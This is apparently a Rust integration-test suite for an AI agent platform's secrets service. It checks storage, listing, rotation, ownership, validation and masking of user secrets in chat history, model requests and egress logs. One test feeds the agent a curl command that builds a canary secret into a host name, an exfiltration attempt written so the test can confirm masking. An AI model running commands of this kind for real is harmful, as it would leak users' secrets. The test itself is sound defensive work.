//! Users' secrets: they go in and never come out, and are masked wherever they turn up.

use membrane_agent::redact::MASK;
use membrane_proto::v1::{self as proto, event_payload::Kind};
use membrane_scripted::{Scenario, Step};
use tonic::Code;
use uuid::Uuid;

use crate::{
    fixture::{Caller, TestServer, reason},
    providers::{KEY, model, workspace_with},
};

const VALUE: &str = "canary \"5b1c\" of a user";

async fn create(
    user: &Caller,
    name: &str,
    value: &str,
    request_id: &str,
) -> Result<proto::Secret, tonic::Status> {
    let request = proto::CreateSecretRequest {
        name: name.to_owned(),
        value: value.to_owned(),
        request_id: request_id.to_owned(),
    };
    let answer = user.secrets().create_secret(request).await?;
    Ok(answer.into_inner().secret.expect("a secret"))
}

async fn rotate(user: &Caller, name: &str, value: &str) -> Result<proto::Secret, tonic::Status> {
    let request = proto::RotateSecretRequest {
        name: name.to_owned(),
        value: value.to_owned(),
    };
    let answer = user.secrets().rotate_secret(request).await?;
    Ok(answer.into_inner().secret.expect("a secret"))
}

async fn list(user: &Caller, page_size: i32, page_token: &str) -> proto::ListSecretsResponse {
    let request = proto::ListSecretsRequest {
        page_size,
        page_token: page_token.to_owned(),
    };
    let answer = user.secrets().list_secrets(request).await;
    answer.expect("a list").into_inner()
}

fn names(list: &proto::ListSecretsResponse) -> Vec<&str> {
    let names = list.secrets.iter().map(|secret| secret.name.as_str());
    names.collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_is_stored_listed_rotated_and_deleted_and_never_shown() {
    let server = TestServer::start().await;
    let (user, other) = (server.user("user").await, server.user("other").await);
    let made = create(&user, "token", VALUE, "").await.expect("stored");
    assert!(made.redacted && made.last_use_time.is_none());
    let taken = create(&user, "token", "x", "").await.expect_err("refused");
    assert_eq!(taken.code(), Code::AlreadyExists);
    let short = create(&user, "short", "abc\n\n\n\n\n", "").await;
    assert!(!short.expect("stored").redacted);

    let listed = list(&user, 0, "").await;
    assert_eq!(names(&listed), ["short", "token"]);
    assert!(!format!("{listed:?}").contains("canary"));
    assert!(list(&other, 0, "").await.secrets.is_empty());
    let foreign = rotate(&other, "token", "x").await.expect_err("refused");
    let absent = rotate(&other, "absent", "x").await.expect_err("refused");
    assert_eq!(foreign.code(), Code::NotFound);
    assert_eq!(foreign.message(), absent.message());

    let rotated = rotate(&user, "token", "abc").await.expect("rotated");
    assert!(!rotated.redacted && rotated.create_time == made.create_time);
    let request = proto::DeleteSecretRequest {
        name: "token".to_owned(),
    };
    let deleted = user.secrets().delete_secret(request.clone()).await;
    deleted.expect("deleted");
    let again = user.secrets().delete_secret(request).await;
    assert_eq!(again.expect_err("refused").code(), Code::NotFound);
    assert_eq!(names(&list(&user, 0, "").await), ["short"]);

    let rows = server.app.database.audit_rows().await.expect("rows");
    let managed = rows
        .iter()
        .filter(|row| row.operation == "ManageSecrets" && row.outcome == "permitted");
    assert_eq!(managed.count(), 8);
}

#[tokio::test]
async fn a_list_goes_on_where_its_page_ended() {
    let server = TestServer::start().await;
    let user = server.user("user").await;
    for name in ["c", "a", "b", "A", "_"] {
        create(&user, name, VALUE, "").await.expect("stored");
    }
    let mut seen = Vec::new();
    let mut token = String::new();
    loop {
        let page = list(&user, 2, &token).await;
        seen.extend(names(&page).into_iter().map(str::to_owned));
        token = page.next_page_token;
        if token.is_empty() {
            break;
        }
    }
    assert_eq!(seen, ["A", "_", "a", "b", "c"]);
}

#[tokio::test]
async fn a_repeated_call_makes_one_secret() {
    let server = TestServer::start().await;
    let user = server.user("user").await;
    let id = Uuid::new_v4().to_string();
    let first = create(&user, "once", VALUE, &id).await.expect("stored");
    let second = create(&user, "once", VALUE, &id).await.expect("the same");
    assert_eq!(first, second);
    assert_eq!(list(&user, 0, "").await.secrets.len(), 1);
}

#[tokio::test]
async fn what_is_no_name_no_value_or_too_much_is_refused() {
    let server = TestServer::start().await;
    let user = server.user("user").await;
    let long = "x".repeat(65);
    for name in [
        "",
        "with space",
        "dötted",
        "a.b",
        "a/b",
        "a\n",
        long.as_str(),
    ] {
        let error = create(&user, name, VALUE, "").await.expect_err("refused");
        assert_eq!(error.code(), Code::InvalidArgument, "{name}");
    }
    let large = "x".repeat(8_193);
    for value in ["", large.as_str()] {
        let error = create(&user, "name", value, "").await.expect_err("refused");
        assert_eq!(error.code(), Code::InvalidArgument);
    }
    for number in 0..8 {
        let name = format!("large-{number}");
        create(&user, &name, &large[..8_192], "")
            .await
            .expect("stored");
    }
    let error = create(&user, "more", "x", "").await.expect_err("refused");
    assert_eq!(
        (error.code(), reason(&error).as_str()),
        (Code::ResourceExhausted, "TOO_MANY_SECRETS")
    );
}

/// The events of a turn whose model says what is given, and what was asked of the model.
async fn said_in_a_turn(user: &Caller, words: &str) -> (String, String) {
    let model = model(Scenario::steps([
        Step::text(words),
        Step::text("Nothing more."),
    ]))
    .await;
    let workspace = workspace_with(user, &model.base_url(), KEY).await;
    let session = user.new_session(&workspace).await;
    user.say(&session, &format!("I say {words}"))
        .await
        .expect("sent");
    user.until_turn_ended(&session, 1).await;
    user.say(&session, "And then?").await.expect("sent");
    user.until_turn_ended(&session, 2).await;
    let history = user.history(&session).await;
    (format!("{history:?}"), format!("{:?}", model.requests()))
}

#[tokio::test(flavor = "multi_thread")]
async fn what_people_and_models_say_is_masked_for_people_and_models() {
    let server = TestServer::start().await;
    let user = server.user("user").await;
    create(&user, "token", VALUE, "").await.expect("stored");
    let words = format!("{VALUE} and {KEY}, {}", hex(VALUE));
    let (events, requests) = said_in_a_turn(&user, &words).await;
    assert!(events.contains(MASK) && requests.contains(MASK));
    for form in [VALUE, &VALUE.replace('"', "\\\""), &hex(VALUE)] {
        assert!(!events.contains(form), "{events}");
        assert!(!requests.contains(form), "{requests}");
    }
    assert!(!events.contains(KEY), "{events}");
    // Somebody else's secret is none here.
    let other = server.user("other").await;
    let (events, _) = said_in_a_turn(&other, VALUE).await;
    assert!(events.contains("5b1c"), "{events}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_that_is_stored_during_a_turn_is_masked_in_it() {
    let server = TestServer::start().await;
    let user = server.user("user").await;
    let workspace = user.new_workspace().await;
    let session = user.new_session(&workspace).await;
    user.say(&session, "!bash echo now").await.expect("sent");
    let asked = |kind: &Kind| matches!(kind, Kind::PermissionRequested(_));
    let event = user.until(&session, asked).await;
    let Some(Kind::PermissionRequested(asked)) = event.payload.and_then(|payload| payload.kind)
    else {
        panic!("another kind");
    };
    create(&user, "late", "canary-late-5b1c", "")
        .await
        .expect("stored");
    let request = proto::ResolvePermissionRequest {
        session_id: session.clone(),
        permission_request_id: asked.permission_request_id,
        decision: proto::PermissionDecision::Deny.into(),
        reason: "because of canary-late-5b1c".to_owned(),
    };
    let resolved = user.sessions().resolve_permission(request).await;
    resolved.expect("resolved");
    user.until_turn_ended(&session, 1).await;
    let events = format!("{:?}", user.history(&session).await);
    assert!(events.contains(&format!("because of {MASK}")), "{events}");
    assert!(!events.contains("canary-late"), "{events}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_boundary_tells_is_masked_as_well() {
    let server = TestServer::start().await;
    let user = server.user("user").await;
    create(&user, "host", "canary-5b1c-host", "")
        .await
        .expect("stored");
    let workspace = user.new_workspace().await;
    user.bypass_permissions(&workspace).await;
    let request = proto::UpdateWorkspaceRequest {
        workspace: Some(proto::Workspace {
            id: workspace.clone(),
            settings: Some(proto::WorkspaceSettings {
                egress: Some(proto::EgressPolicy {
                    mode: proto::EgressMode::Listed.into(),
                    hosts: vec!["example.com".to_owned()],
                    ..Default::default()
                }),
                ..Default::default()
            }),
            ..Default::default()
        }),
        update_mask: Some(prost_types::FieldMask {
            paths: vec!["settings.egress".to_owned()],
        }),
        ..Default::default()
    };
    user.workspaces()
        .update_workspace(request)
        .await
        .expect("set");
    let session = user.new_session(&workspace).await;
    // A host name is a way out for a secret, and it must not be one into the log.
    let ask = "!bash half=canary-5b; curl -sS http://${half}1c-host.example/";
    user.say(&session, ask).await.expect("sent");
    user.until_turn_ended(&session, 1).await;
    let history = format!("{:?}", user.history(&session).await);
    assert!(history.contains("EgressDecision"), "{history}");
    assert!(!history.contains("canary-5b1c"), "{history}");
    let request = proto::ListActivityRequest {
        workspace_id: workspace,
        ..Default::default()
    };
    let activity = user.activity().list_activity(request).await;
    let activity = format!("{:?}", activity.expect("activity").into_inner());
    assert!(activity.contains(MASK), "{activity}");
    assert!(!activity.contains("canary-5b1c"), "{activity}");
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}
